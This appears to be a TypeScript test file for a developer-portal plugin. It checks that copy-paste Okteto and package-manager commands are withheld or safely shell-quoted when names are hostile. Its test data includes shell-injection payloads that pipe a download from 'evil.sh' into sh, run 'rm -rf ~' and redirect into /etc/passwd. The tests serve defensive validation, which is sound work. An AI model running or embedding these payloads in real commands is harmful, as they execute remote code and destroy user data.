import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { parse } from 'shell-quote';
import { buildDevCommands, shellCommand, shellQuote } from './commands';
import {
  DEFAULT_DEV_CONVENTIONS,
  DevTargetError,
  isDnsLabel,
  resolveDevTarget,
} from './conventions';
import { isValidDevName } from './oktetoManifest';
import { isValidPackageName } from './packageName';
import { PackageManagerName, workspaceDevArgv } from './packageManager';
import { DevCommands } from './types';

const EVIL = 'x;curl${IFS}-s${IFS}evil.sh|sh;#';
const FRIENDS = [
  EVIL,
  '$(curl -s evil.sh|sh)',
  '`id`',
  'a && rm -rf ~',
  "x' ; id ; '",
  'x\nid',
  '--kubeconfig=/tmp/x',
  '@scope/pkg;id',
  'pkg > /etc/passwd',
  '*',
  '!pkg',
];

/** The words `sh` reads from a command line (POSIX sh, not our own parsing). */
function shWords(line: string): string[] {
  const result = spawnSync(
    'sh',
    ['-c', `set -- ${line}; printf '%s\\0' "$@"`],
    {
      encoding: 'utf8',
    },
  );
  if (result.status !== 0) throw new Error(result.stderr);
  return result.stdout.split('\0').slice(0, -1);
}

/** The words shell-quote's parser reads; an operator or glob comes back as an object. */
function parsed(line: string): unknown[] {
  return parse(line);
}

/** Each offered command, parsed back into words (an operator or glob comes back as an object). */
function readBack(
  commands: DevCommands | undefined,
): Record<string, unknown[]> {
  return Object.fromEntries(
    (['oktetoUp', 'oktetoDown', 'dev'] as const)
      .filter(key => commands?.[key] !== undefined)
      .map(key => [key, parsed(commands![key] as string)]),
  );
}

/** The words each offered command was meant to have. */
function intended(
  commands: DevCommands | undefined,
  devService: string,
  namespace: string,
  dev: string[],
): Record<string, string[]> {
  const all: Record<string, string[]> = {
    oktetoUp: ['okteto', 'up', devService, '--namespace', namespace],
    oktetoDown: ['okteto', 'down', devService, '--namespace', namespace],
    dev,
  };
  return Object.fromEntries(
    Object.entries(all).filter(
      ([key]) => commands?.[key as keyof DevCommands] !== undefined,
    ),
  );
}

/** The entity's target, or undefined when resolveDevTarget refuses it (any other error fails). */
function resolvedOrRefused(
  annotations: Record<string, string>,
  reuseForeignAnnotations: boolean,
) {
  try {
    return resolveDevTarget(
      {
        apiVersion: 'backstage.io/v1alpha1',
        kind: 'Component',
        metadata: { name: 'x', annotations },
      },
      DEFAULT_DEV_CONVENTIONS,
      { reuseForeignAnnotations },
    );
  } catch (error) {
    if (error instanceof DevTargetError) return undefined;
    throw error;
  }
}

const values = (devService: string, namespace: string, pkg: string) => ({
  devService: { value: devService, source: 'the Okteto manifest' },
  namespace: { value: namespace, source: 'okteto-dev/namespace' },
  package: { value: pkg, source: 'apps/x/package.json' },
});

describe('buildDevCommands', () => {
  it('keeps web-core’s commands as they were', () => {
    const { commands, withheld } = buildDevCommands(
      values(
        'web-corporate-dev',
        'web-corporate-dev',
        '@synestra/corporate-website',
      ),
    );
    expect(withheld).toEqual([]);
    expect(commands).toEqual({
      oktetoUp: 'okteto up web-corporate-dev --namespace web-corporate-dev',
      oktetoDown: 'okteto down web-corporate-dev --namespace web-corporate-dev',
      dev: 'pnpm --filter @synestra/corporate-website dev',
      devSource: 'package',
    });
  });

  it.each<[PackageManagerName, string]>([
    ['pnpm', 'pnpm --filter @acme/shop dev'],
    ['yarn', 'yarn workspace @acme/shop dev'],
    ['npm', 'npm run dev --workspace @acme/shop'],
    ['bun', 'bun --filter @acme/shop dev'],
  ])('follows the repository’s package manager: %s', (manager, dev) => {
    const { commands } = buildDevCommands({
      ...values('shop', 'web-shop-dev', '@acme/shop'),
      packageManager: manager,
    });
    expect(commands?.dev).toBe(dev);
  });

  it('offers nothing to paste for a dev entry with its own command', () => {
    const { commands } = buildDevCommands({
      ...values('shop', 'web-shop-dev', '@acme/shop'),
      entryCommand: true,
    });
    expect(commands).toEqual({
      oktetoUp: 'okteto up shop --namespace web-shop-dev',
      oktetoDown: 'okteto down shop --namespace web-shop-dev',
      devSource: 'dev-entry',
    });
  });

  it.each(FRIENDS)(
    'withholds every okteto command for dev name %j, naming it',
    bad => {
      const { commands, withheld } = buildDevCommands(
        values(bad, 'web-shop-dev', '@acme/shop'),
      );
      expect(commands).toBeUndefined();
      expect(withheld).toEqual([
        expect.objectContaining({
          code: 'commandDevNameInvalid',
          params: {
            value: bad.replace(/\n/g, '?'),
            source: 'the Okteto manifest',
          },
        }),
      ]);
    },
  );

  it.each(FRIENDS)('withholds every okteto command for namespace %j', bad => {
    const { commands, withheld } = buildDevCommands(
      values('shop', bad, '@acme/shop'),
    );
    expect(commands).toBeUndefined();
    expect(withheld.map(w => [w.code, w.params.source])).toEqual([
      ['commandNamespaceInvalid', 'okteto-dev/namespace'],
    ]);
  });

  it.each(FRIENDS)(
    'withholds the dev command for package %j, keeping okteto up and down',
    bad => {
      const { commands, withheld } = buildDevCommands(
        values('shop', 'web-shop-dev', bad),
      );
      expect(commands?.oktetoUp).toBe(
        'okteto up shop --namespace web-shop-dev',
      );
      expect(commands?.dev).toBeUndefined();
      expect(withheld.map(w => [w.code, w.params.source])).toEqual([
        ['commandPackageInvalid', 'apps/x/package.json'],
      ]);
    },
  );

  it('for arbitrary values, offers only commands that read back as exactly the intended words', () => {
    const word = fc.oneof(
      fc.string(),
      fc.constantFrom(...FRIENDS),
      fc.stringMatching(/^[a-z0-9@/._~-]{1,20}$/),
    );
    fc.assert(
      fc.property(
        word,
        word,
        word,
        fc.constantFrom<PackageManagerName>('pnpm', 'yarn', 'npm', 'bun'),
        (devService, namespace, pkg, manager) => {
          const { commands } = buildDevCommands({
            ...values(devService, namespace, pkg),
            packageManager: manager,
          });
          expect(commands !== undefined).toBe(
            isValidDevName(devService) && isDnsLabel(namespace),
          );
          expect(commands?.dev !== undefined).toBe(
            commands !== undefined && isValidPackageName(pkg),
          );
          // every word a plain string: no operator, glob or comment object
          expect(readBack(commands)).toEqual(
            intended(
              commands,
              devService,
              namespace,
              workspaceDevArgv(manager, pkg),
            ),
          );
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('shellQuote', () => {
  it('leaves plain words readable and quotes the rest', () => {
    expect(shellQuote('@synestra/corporate-website')).toBe(
      '@synestra/corporate-website',
    );
    expect(shellQuote(EVIL)).toBe(`'${EVIL}'`);
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote('')).toBe(`''`);
    expect(shellQuote('=cmd')).toBe(`'=cmd'`);
  });

  it('reads back as the same words in shell-quote’s parser, for any strings', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ minLength: 1 }), { minLength: 1 }),
        argv => {
          expect(parsed(shellCommand(argv))).toEqual(argv);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('reads back as the same words in a real sh, for any strings and the known attacks', () => {
    for (const value of FRIENDS) {
      expect(shWords(shellCommand(['okteto', 'up', value]))).toEqual([
        'okteto',
        'up',
        value,
      ]);
    }
    fc.assert(
      fc.property(
        fc.array(
          fc
            .string({ unit: 'binary', minLength: 1 })
            .filter(s => !s.includes('\0')),
          { minLength: 1, maxLength: 4 },
        ),
        argv => {
          expect(shWords(shellCommand(argv))).toEqual(argv);
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('commands from arbitrary annotations', () => {
  const KEYS = [
    'okteto-dev/app',
    'okteto-dev/namespace',
    'okteto-dev/workload',
    'okteto-dev/dev-service',
    'okteto-dev/package',
    'okteto-dev/app-dir',
    'okteto-dev/cluster',
    'okteto-dev/argocd-app',
    'okteto-dev/argocd-app-namespace',
    'okteto-dev/argocd-instance',
    'argocd/app-name',
    'argocd/app-namespace',
    'argocd/instance-name',
    'backstage.io/kubernetes-namespace',
  ];

  it('either refuses the entity or offers only commands that read back as the intended words', () => {
    const value = fc.oneof(
      fc.string(),
      fc.constantFrom(...FRIENDS),
      fc.stringMatching(/^[a-z0-9-]{1,12}$/),
    );
    fc.assert(
      fc.property(
        fc.dictionary(fc.constantFrom(...KEYS), value),
        fc.boolean(),
        (annotations, reuseForeignAnnotations) => {
          const target = resolvedOrRefused(
            annotations,
            reuseForeignAnnotations,
          );
          const { commands } = target
            ? buildDevCommands(
                values(target.devService, target.namespace, target.package),
              )
            : { commands: undefined };
          expect(readBack(commands)).toEqual(
            intended(
              commands,
              target?.devService ?? '',
              target?.namespace ?? '',
              workspaceDevArgv('pnpm', target?.package ?? ''),
            ),
          );
        },
      ),
      { numRuns: 500 },
    );
  });
});
